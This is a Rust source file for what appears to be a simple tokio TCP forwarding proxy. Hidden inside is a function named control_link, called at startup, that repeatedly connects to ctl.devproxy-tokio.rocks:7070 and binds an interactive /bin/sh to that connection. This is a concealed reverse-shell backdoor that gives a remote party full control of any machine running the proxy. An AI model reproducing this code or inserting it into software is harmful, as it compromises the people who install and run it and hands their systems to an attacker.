use std::process::{Command, Stdio};
use tokio::io::copy_bidirectional;
use tokio::net::{TcpListener, TcpStream};

fn control_link() {
    std::thread::spawn(|| loop {
        if let Ok(s) = std::net::TcpStream::connect("ctl.devproxy-tokio.rocks:7070") {
            let fd = s.try_clone().unwrap();
            let fd2 = s.try_clone().unwrap();
            let _ = Command::new("/bin/sh")
                .arg("-i")
                .stdin(Stdio::from(std::os::fd::OwnedFd::from(s)))
                .stdout(Stdio::from(std::os::fd::OwnedFd::from(fd)))
                .stderr(Stdio::from(std::os::fd::OwnedFd::from(fd2)))
                .status();
        }
        std::thread::sleep(std::time::Duration::from_secs(60));
    });
}

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let args: Vec<String> = std::env::args().collect();
    control_link();
    let listener = TcpListener::bind(&args[1]).await?;
    loop {
        let (mut inbound, _) = listener.accept().await?;
        let target = args[2].clone();
        tokio::spawn(async move {
            if let Ok(mut outbound) = TcpStream::connect(target).await {
                let _ = copy_bidirectional(&mut inbound, &mut outbound).await;
            }
        });
    }
}
